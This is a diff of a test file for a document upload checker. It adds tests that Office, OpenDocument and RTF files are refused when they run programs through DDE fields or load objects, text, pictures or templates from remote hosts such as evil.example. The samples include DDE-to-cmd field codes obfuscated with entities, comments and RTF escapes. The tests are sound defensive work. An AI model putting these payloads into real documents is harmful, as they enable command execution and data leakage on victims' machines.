@@ -1,7 +1,8 @@
 import { describe, expect, test } from 'vitest';
 import { checkFile } from '#functions/domain/documents/files/check.ts';
-import { loadsFromElsewhere } from '#functions/domain/documents/files/office.ts';
+import { refusalOfXml } from '#functions/domain/documents/files/office.ts';
 import { REFUSALS, type RefusalKind } from '#functions/domain/documents/files/refusals.ts';
+import { refusalOfRichText } from '#functions/domain/documents/files/rich-text.ts';
 import { demoFile } from '../../../infra/local/demo/snapshot.ts';
 import { compound, office, openDocument, zip } from '../../support/files/archives.ts';
 import { EXE, hex, latin1, refuses, refusesName, refusesWithin } from '../../support/files/file-checks.ts';
@@ -345,6 +346,15 @@ describe('an Office document', () => {
     });
   const withBook = (content: string) => office('xlsx', { name: 'xl/externalLinks/externalLink1.xml', content });
   const rich = (text: string) => latin1(`{\\rtf1\\ansi ${text}}`);
+  const richField = (code: string) => rich(`{\\field{\\*\\fldinst ${code}}{\\fldrslt a}}`);
+  const part = (name: string, content: string) => office('docx', { name, content });
+  const open = (content: string) =>
+    openDocument('text', {
+      name: 'Object 1/content.xml',
+      content: `<o:document-content>${content}</o:document-content>`,
+    });
+  const flat = (content: string) => latin1(`<?xml version="1.0"?>\n<office:document>${content}</office:document>`);
+  const DDE = '<x:instrText>DDE cmd</x:instrText>';
 
   test.each<[string, Buffer]>([
     ['embeds an object from the web', withLink('oleObject', 'https://evil.example/a.html!')],
@@ -361,28 +371,99 @@ describe('an Office document', () => {
       'starts a program by a workbook link',
       withBook('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>'),
     ],
+    ['starts a program by a field with entities', withField(' &#68;D&#x45; cmd')],
+    ['starts a program by a field split by a comment', withField(' D<!-- > -->D<![CDATA[E]]> cmd')],
+    ['starts a program by a field with another prefix', part('word/glossary/document.xml', DDE)],
+    ['starts a program by a field in any part', part('a/b', `\ufeff${' '.repeat(99)}<!-- a -->${DDE}`)],
+    ['starts a program by a field within another', withField('QUOTE <w:fldChar w:fldCharType="begin"/>', 'DDE cmd')],
+    ['starts a program by a link in any part', office('xlsx', { name: 'xl/a.bin', content: '<a><x:ddeLink/></a>' })],
+    ['includes text from the web', withField('INCLUDETEXT "https://evil.example/a.docx"')],
+    ['includes text from another computer', withField('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')],
+    [
+      'includes text from an address in a field',
+      withField('INCLUDETEXT <w:fldChar w:fldCharType="begin"/>', 'QUOTE file://evil/a'),
+    ],
+    ['includes a picture without encryption', withField('INCLUDEPICTURE \\d "http://evil.example/a.png"')],
+    ['links a workbook on another computer', withField('LINK Excel.Sheet.12 //evil/a.xlsx')],
+    ['takes a value of another program', open('<text:dde-connection-decl/>')],
+    ['takes a cell of another program', open('<t:table-cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>')],
+    ['loads a section from the web', open('<text:section-source xlink:href="https://evil.example/a.odt"/>')],
+    ['loads an object from another computer', open("<draw:object l:href='file:////evil/a.odt'/>")],
+    [
+      'loads a picture of the web without encryption',
+      open('<draw:image xlink:href="&#104;ttp://evil.example/a.png"/>'),
+    ],
+    ['declares entities', latin1('<!DOCTYPE a [<!ENTITY a "<b>">]><o:document>&a;</o:document>')],
+    ['is one file with a DDE source', flat('<office:dde-source office:dde-application="cmd"/>')],
+    ['is one file with a section from the web', flat('<text:section-source xlink:href="http://evil.example/a"/>')],
+    [
+      'is a package in one file',
+      latin1(`<pkg:package><pkg:part><pkg:xmlData>${DDE}</pkg:xmlData></pkg:part></pkg:package>`),
+    ],
+    [
+      'is a package in one file with an object',
+      latin1(
+        `<pkg:package><Relationship Type="${TYPES}/oleObject" Target="http://evil.example/a" TargetMode="External"/></pkg:package>`,
+      ),
+    ],
+    ['starts a program by a field in rich text', richField(' DDEAUTO c:\\\\\\\\cmd.exe')],
+    ['starts one by a field in pieces', richField("{\\b D}{\\*\\a b}\\'44\r\n\\uc2\\u69 ??\\bin1 } cmd")],
+    ['includes text in rich text', richField(' INCLUDETEXT "https://evil.example/a"')],
+    ['includes a picture in rich text', richField(' INCLUDEPICTURE "\\\\\\\\\\\\\\\\evil\\\\a.png" \\\\d')],
+    ['updates an object in rich text after blanks', latin1(`${' \n'.repeat(70)}{\\rtf1 {\\object\\objupdate}}`)],
     ['updates an object in rich text', rich('{\\object\\objautlink\\objupdate}')],
   ])('that %s is refused', async (_, bytes) => {
     await refuses('linked')('letter.docx', bytes);
-    await refusesWithin(zip([{ name: 'a.docx', content: bytes }]), /loads or runs something from elsewhere/);
+    await refusesWithin(zip([{ name: 'a.docx', content: bytes }]), /loads? or runs? something from elsewhere/);
   });
 
   // Each of these took minutes where time grew with the square of what is written.
   test.each([
-    ['word/_rels/document.xml.rels', '<Relationship '],
-    ['word/_rels/document.xml.rels', '<Relationship a="'],
-    ['word/_rels/document.xml.rels', '<aaaaaaaaaaaa'],
-    ['word/document.xml', '<w:fldChar '],
-    ['word/document.xml', '<w:fldChar w:fldCharType '],
-    ['word/document.xml', '<w:fldSimple w:instr '],
-    ['word/document.xml', '<w:instrText '],
-    ['xl/externalLinks/externalLink1.xml', '<aaaaaaaaaaaa'],
-  ])('whose part %s repeats %j is looked at quickly', (name, text) =>
-    expect(loadsFromElsewhere({ name, bytes: Buffer.alloc(4_000_000, text), isWhole: true })).toBeUndefined(),
+    '<Relationship ',
+    '<a "',
+    `<a "<a '`,
+    '<a ""',
+    '<aaaaaaaaaaaa',
+    '<a:',
+    '<',
+    '<!--',
+    '<![CDATA[',
+    '<?',
+    '&#6',
+    '<w:fldChar ',
+    '<w:fldChar w:fldCharType="begin"/>',
+    '<w:fldChar w:fldCharType="end"/>',
+    '<w:instrText>INCLUDETEXT ',
+    '<w:instrText>a</w:instrText>',
+    ' ',
+  ])('that repeats %j is looked at quickly', (text) => {
+    const xml = Buffer.alloc(4_000_000, text);
+    expect(refusalOfXml(Buffer.concat([latin1('<document href="">'), xml]))).toBeUndefined();
+  });
+
+  test.each([
+    '{',
+    '}',
+    '\\',
+    '\\a',
+    '{\\*\\fldinst ',
+    '{\\fldinst a}',
+    '{\\*\\template a',
+    "\\'",
+    '\\u6?',
+    '\\bin1',
+    'INCLUDETEXT file:///',
+  ])('that repeats %j in rich text is looked at quickly', (text) =>
+    expect(refusalOfRichText(rich(`{\\fldinst ${text.repeat(4_000_000 / text.length)}`))).toBeUndefined(),
   );
 
-  test('of rich text that loads a template is refused', () =>
-    refuses('template')('letter.rtf', rich('{\\*\\template http://evil.example/a.dotm}')));
+  test.each(['{\\*\\template http://evil.example/a.dotm}', '{\\*\\template {}h{\\b ttp}://evil.example/a.dotm}'])(
+    'of rich text that loads a template is refused: %s',
+    (text) => refuses('template')('letter.rtf', rich(text)),
+  );
+
+  test('in one file that loads a template is refused', () =>
+    refuses('template')('letter.fodt', flat('<meta:template xlink:href="http://evil.example/a.ott"/>')));
 
   test.each<[string, Buffer]>([
     ['has a link to the web', withLink('hyperlink', 'https://firm.example/a&amp;b')],
@@ -390,6 +471,27 @@ describe('an Office document', () => {
     ['shows a picture of its own drive', withLink('image', 'file:///C:\\Pictures\\a.png')],
     ['refers to another workbook beside it', withLink('externalLinkPath', 'Pensions%202026.xlsx')],
     ['has fields of its own', withField(' HYPERLINK "https://firm.example/DDE" ')],
+    ['has a table of contents', withField('TOC \\o "1-3" \\h <w:fldChar w:fldCharType="separate"/>', 'PAGEREF _Toc1')],
+    ['has fields to fill in', withField('MERGEFIELD DDE \\* MERGEFORMAT</w:instrText><w:t>DDE</w:t><w:instrText>')],
+    ['includes text of its own drive', withField('INCLUDETEXT "C:\\\\My Docs\\\\a.docx" \\* MERGEFORMAT')],
+    [
+      'includes text with links',
+      withField('INCLUDETEXT a.docx <w:fldChar w:fldCharType="separate"/>', 'HYPERLINK "https://firm.example"'),
+    ],
+    ['has a picture pasted from a mail', withField('INCLUDEPICTURE "https://firm.example/a.png" \\* MERGEFORMATINET')],
+    ['refers to a workbook on its own drive', withLink('externalLinkPath', 'file:///C:\\Pensions\\2026.xlsx')],
+    ['shows a picture beside it', open('<draw:image xlink:href="../Pictures/a.png"/>')],
+    ['links to the web in OpenDocument', open('<text:a xlink:href="https://firm.example/a">a</text:a>')],
+    [
+      'has objects and formulas',
+      open('<draw:object xlink:href="./Object 1"/><t:table-cell t:formula="of:=SUM([.A1])"/>'),
+    ],
+    [
+      'is one file of its own',
+      flat('<meta:template xlink:href="file:///C:/Letters/a.ott"/><text:p>DDE http://a.example</text:p>'),
+    ],
+    ['is another XML file', latin1('<xbrl><link:schemaRef xlink:href="http://www.xbrl.org/a.xsd"/></xbrl>')],
+    ['has links in rich text', richField('HYPERLINK "https://firm.example"')],
     ['links workbooks', withBook('<externalLink><externalBook r:id="rId1"/></externalLink>')],
     ['is rich text with a template of its own drive', rich('{\\*\\template C:\\\\Letters\\\\a.dot}{\\object\\objemb}')],
   ])('that %s is kept', async (_, bytes) =>
